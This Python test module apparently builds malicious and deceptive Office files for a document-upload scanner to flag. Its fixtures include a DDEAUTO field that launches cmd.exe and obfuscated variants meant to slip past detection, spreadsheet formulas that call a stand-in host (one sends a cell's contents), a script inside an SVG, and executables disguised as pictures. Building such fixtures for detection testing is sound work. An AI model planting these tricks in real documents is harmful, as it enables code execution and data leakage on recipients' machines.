"""Hostile Word documents and workbooks that are called something else than they are, or lie."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from tests.good_office import OPEN, furnished_word, in_one_go, printer, strict
from tests.hostile_zips import PROGRAM, ZIPS
from tests.upload_corpus import (
    SHEET_TYPE,
    TEXT,
    WORD_TYPE,
    link,
    links,
    packed,
    paragraph,
    sheet,
    sheet_parts,
    types,
    word,
    word_parts,
    word_with,
    workbook_with,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.upload_corpus import Parts

_OLD_FILE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_TRACKED: Final = "<w:del><w:r><w:delText>£3m</w:delText></w:r></w:del>"
_DDE: Final = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe'
    "</w:instrText></w:r>"
)
_HIDDEN: Final = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>£3m</w:t></w:r>"
_ACTIVE: Final = "another file or an active object"
_STRANGE: Final = "part of an unknown kind"
_NO_PICTURE: Final = "called a picture and is none"
_NO_PRINTER: Final = "called the settings of a printer"
_ASKS: Final = "asks another file"
_HIDDEN_CELLS: Final = "hidden rows or columns"
_EXCEL_2006: Final = "http://schemas.microsoft.com/office/excel/2006/main"


def _strict_word(inside: str) -> bytes:
    return packed(strict(word_parts() | {"word/document.xml": paragraph(inside + TEXT)}))


def _strict_workbook(parts: Parts) -> bytes:
    return packed(strict(sheet_parts() | parts))


def _named(name: str, kind: str) -> str:
    return f'<Override PartName="/{name}" ContentType="{kind}"/>'


def _printer(name: str, part: bytes, kind: str = "spreadsheetml.printerSettings") -> bytes:
    return word_with({name: part}, _named(name, f"{OPEN}.{kind}"))


def _joined(kind: str, name: str, part: str | bytes) -> bytes:
    """A document with a link of this kind to a part of its own."""
    rels = links(link(kind, name.removeprefix("word/"), ""))
    return word_with({name: part, "word/_rels/document.xml.rels": rels})


def _main_elsewhere() -> bytes:
    return packed(
        {
            "[Content_Types].xml": types("word/document.dat", WORD_TYPE),
            "_rels/.rels": links(link("officeDocument", "word/document.dat", "")),
            "word/document.dat": paragraph(_TRACKED + _DDE),
        }
    )


def _other_case() -> bytes:
    """A second document with macros beside the first, declared in capitals; Office opens it."""
    declared = _named("WORD/other.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    return word_with(
        {
            "word/other.xml": paragraph(TEXT),
            "_rels/.rels": links(link("officeDocument", "word/other.xml", "")),
        },
        declared,
    )


def _opens_another() -> bytes:
    return word_with(
        {
            "word/other.xml": "<html/>",
            "_rels/.rels": links(link("officeDocument", "word/other.xml", "")),
        }
    )


def _cell(formula: str) -> bytes:
    return workbook_with({"xl/worksheets/sheet1.xml": sheet(f"<row><c><f>{formula}</f></c></row>")})


def _beside(more: str) -> bytes:
    """A workbook with something before the rows of its sheet."""
    return workbook_with({"xl/worksheets/sheet1.xml": sheet("<row/>", more)})


def _workbook_says(more: str) -> bytes:
    text = str(sheet_parts()["xl/workbook.xml"])
    return workbook_with({"xl/workbook.xml": text.replace("<sheets>", f"{more}<sheets>")})


def _svg(inside: str) -> bytes:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
    return word_with(
        {"word/media/a.svg": drawing}, '<Default Extension="svg" ContentType="image/svg+xml"/>'
    )


OFFICE: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    "strict-tracked.docx": (lambda: _strict_word(_TRACKED), "tracked changes"),
    "strict-dde.docx": (lambda: _strict_word(_DDE), "fetches or runs"),
    "strict-hidden-text.docx": (lambda: _strict_word(_HIDDEN), "hidden text"),
    "strict-template.docx": (
        lambda: packed(
            strict(
                word_parts()
                | {"word/_rels/document.xml.rels": links(link("attachedTemplate", "http://x/t"))}
            )
        ),
        "linked to another file",
    ),
    "strict-hidden-sheet.xlsx": (
        lambda: _strict_workbook(
            {
                "xl/workbook.xml": str(sheet_parts()["xl/workbook.xml"]).replace(
                    "<sheet ", '<sheet state="veryHidden" '
                )
            }
        ),
        "hidden sheet, “Costs”",
    ),
    "strict-web.xlsx": (
        lambda: _strict_workbook(
            {"xl/worksheets/sheet1.xml": sheet('<row><c><f>WEBSERVICE("http://x")</f></c></row>')}
        ),
        _ASKS,
    ),
    "formatting-tracked.docx": (
        lambda: word(body=paragraph(f"<w:pPr><w:pPrChange/></w:pPr>{TEXT}")),
        "tracked changes",
    ),
    "hidden-row.docx": (
        lambda: word(body=paragraph(f"<w:tr><w:trPr><w:hidden/></w:trPr>{TEXT}</w:tr>")),
        "hidden text",
    ),
    "remark-in-field.docx": (
        lambda: word(body=paragraph(_DDE.replace("DDEAUTO", "INCLUDE<!-- -->TEXT"))),
        "fetches or runs",
    ),
    "field-around-field.docx": (
        lambda: word(
            body=paragraph(
                _DDE.replace("DDEAUTO c:\\\\cmd.exe", "DD")
                + _DDE.replace("DDEAUTO c:\\\\cmd.exe", "QUOTE")
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
                + "<w:r><w:instrText>E cmd</w:instrText></w:r>"
            )
        ),
        "fetches or runs",
    ),
    "share-in-field.docx": (
        lambda: word(
            body=paragraph(
                _DDE.replace("DDEAUTO c:\\\\cmd.exe", ' HYPERLINK "\\\\server\\share" ')
                + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            )
        ),
        "leads to a file",
    ),
    "program-in-field.docx": (
        lambda: word(
            body=paragraph('<w:fldSimple w:instr="HYPERLINK \\h \\l &quot;x&quot; run.exe"/>')
        ),
        "leads to a file",
    ),
    "merge.docx": (
        lambda: word_with({"word/settings.xml": paragraph("<w:mailMerge/>")}),
        "mail merge",
    ),
    "old-picture.docx": (
        lambda: word(
            body=paragraph(
                '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x/seen.png"/>'
            )
        ),
        "linked to another file",
    ),
    "printer-object.docx": (
        lambda: _printer("word/embeddings/printerSettings1.bin", _OLD_FILE, "oleObject"),
        _ACTIVE,
    ),
    "printer-embedded.docx": (
        lambda: _printer("word/embeddings/printerSettings1.bin", printer()),
        _ACTIVE,
    ),
    "printer-macros.docx": (
        lambda: word_with(
            {"word/printerSettings/vbaProject.bin": _OLD_FILE},
            _named("word/printerSettings/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        ),
        "holds macros",
    ),
    "printer-program.docx": (
        lambda: word_with({"word/printerSettings/run.exe": PROGRAM}),
        _STRANGE,
    ),
    "printer-old-file.docx": (
        lambda: _printer("word/printerSettings1.bin", _OLD_FILE + b"\0" * 600),
        _NO_PRINTER,
    ),
    "printer-large.docx": (
        lambda: _printer("word/printerSettings1.bin", printer() + b"x" * 300_000),
        _NO_PRINTER,
    ),
    "main.dat.docx": (_main_elsewhere, _STRANGE),
    "header.png.docx": (
        lambda: word_with(
            {"word/media/header1.png": paragraph(_TRACKED)},
            _named("word/media/header1.png", f"{OPEN}.wordprocessingml.header+xml"),
        ),
        _STRANGE,
    ),
    "default-header.docx": (
        lambda: word_with(
            {"word/header1.hdr": paragraph(_TRACKED)},
            f'<Default Extension="hdr" ContentType="{OPEN}.wordprocessingml.header+xml"/>',
        ),
        _STRANGE,
    ),
    "other-case.docx": (_other_case, "holds macros"),
    "capital-type.docx": (
        lambda: word_with(
            {"word/c.xml": "<c/>"}, _named("word/c.xml", f"{OPEN.upper()}.x.COMMENTS+XML")
        ),
        "has comments",
    ),
    "declared-only.docx": (
        lambda: word_with({}, _named("word/no.xml", "application/vnd.ms-office.vbaProject")),
        "holds macros",
    ),
    "declared-twice.docx": (
        lambda: word_with({}, _named("word/Document.xml", "application/xml")),
        "two parts of one name",
    ),
    "opens-another.docx": (_opens_another, "which of its parts is the document"),
    "object.png.docx": (lambda: _joined("oleObject", "word/media/o.png", _OLD_FILE), _ACTIVE),
    "chunk.docx": (lambda: _joined("aFChunk", "word/chunk.xml", "<html/>"), _ACTIVE),
    "chunk-by-another-link.docx": (lambda: word(body=paragraph("<w:altChunk/>")), _ACTIVE),
    "object.xlsx": (lambda: _beside("<oleObjects><oleObject/></oleObjects>"), _ACTIVE),
    "package.docx": (lambda: _joined("package", "word/media/o.png", word()), _ACTIVE),
    "comments-by-link.docx": (lambda: _joined("comments", "word/c.xml", "<c/>"), "has comments"),
    "font.docx": (lambda: _joined("font", "word/f.xml", "<f/>"), "its own fonts"),
    "frame.docx": (lambda: _joined("frame", "word/f.xml", "<f/>"), "something that no document"),
    "picture-of-xml.docx": (
        lambda: _joined("image", "word/f.xml", "<f/>"),
        "calls a part a picture",
    ),
    "link-without-mode.docx": (
        lambda: word(links=links(link("image", "http://x/seen.png", ""))),
        "linked to another file",
    ),
    "program.png.docx": (lambda: word_with({"word/media/o.png": PROGRAM}), _NO_PICTURE),
    "word.png.docx": (lambda: word_with({"word/media/o.png": word()}), _NO_PICTURE),
    "script.svg.docx": (lambda: _svg("<script>alert(1)</script>"), "picture in the file (SVG)"),
    "web.svg.docx": (lambda: _svg('<image href="http://x/a"/>'), "picture in the file (SVG)"),
    "image.xlsx": (lambda: _cell('_xlfn.IMAGE("http://x/"&amp;A1)'), _ASKS),
    "remark-in-formula.xlsx": (lambda: _cell('WEB<!-- -->SERVICE("http://x")'), _ASKS),
    "rule.xlsx": (
        lambda: _beside("<cfRule><formula>RTD(1)</formula></cfRule>"),
        _ASKS,
    ),
    "newer-rule.xlsx": (
        lambda: _beside(f'<xm:f xmlns:xm="{_EXCEL_2006}">WEBSERVICE("http://x")</xm:f>'),
        _ASKS,
    ),
    "validation.xlsx": (
        lambda: _beside("<dataValidation><formula2>[1]Prices!A1</formula2></dataValidation>"),
        _ASKS,
    ),
    "scale.xlsx": (lambda: _beside('<cfvo type="formula" val="[1]Prices!A1"/>'), _ASKS),
    "name.xlsx": (
        lambda: _workbook_says("<definedName>WEBSERVICE(A1)</definedName>"),
        _ASKS,
    ),
    "table.xlsx": (
        lambda: _beside("<calculatedColumnFormula>CALL(1)</calculatedColumnFormula>"),
        _ASKS,
    ),
    "low-row.xlsx": (
        lambda: workbook_with(
            {"xl/worksheets/sheet1.xml": sheet('<row ht="0" customHeight="1"><c/></row>')}
        ),
        _HIDDEN_CELLS,
    ),
    "very-low-row.xlsx": (
        lambda: workbook_with({"xl/worksheets/sheet1.xml": sheet('<row ht="1E-2"><c/></row>')}),
        _HIDDEN_CELLS,
    ),
    "narrow-column.xlsx": (
        lambda: _beside('<cols><col min="1" max="1" width="0"/></cols>'),
        _HIDDEN_CELLS,
    ),
    "no-rows.xlsx": (lambda: _beside('<sheetFormatPr zeroHeight="1"/>'), _HIDDEN_CELLS),
    "no-height.xlsx": (lambda: _beside('<sheetFormatPr defaultRowHeight="0"/>'), _HIDDEN_CELLS),
    "hidden-window.xlsx": (
        lambda: _workbook_says('<bookViews><workbookView visibility="hidden"/></bookViews>'),
        "window of the workbook is hidden",
    ),
    "revisions.xlsx": (
        lambda: workbook_with({"xl/revisions/revisionLog1.xml": "<revisions/>"}),
        "what its cells said before",
    ),
    "web-data.xlsx": (
        lambda: workbook_with({"xl/richData/rdrichvalue.xml": "<rvData/>"}),
        "fills from the web",
    ),
    "escaped-name.docx": (
        lambda: word_with({"word/d%6Fcument.xml": paragraph(TEXT)}),
        "more than one name",
    ),
    "other-letters.docx": (
        lambda: word(
            body=f'<?xml version="1.0" encoding="cp037"?>{paragraph(TEXT)}'.encode("cp037")
        ),
        "is damaged",
    ),
    "furnished-with-macros.docx": (
        lambda: in_one_go(furnished_word() | {"word/vbaData.xml": "<vbaSuppData/>"}),
        "holds macros",
    ),
    "sheet-too.docx": (
        lambda: word_with({"word/book.xml": "<workbook/>"}, _named("Word/Book.xml", SHEET_TYPE)),
        "neither a Word document",
    ),
    **ZIPS,
}
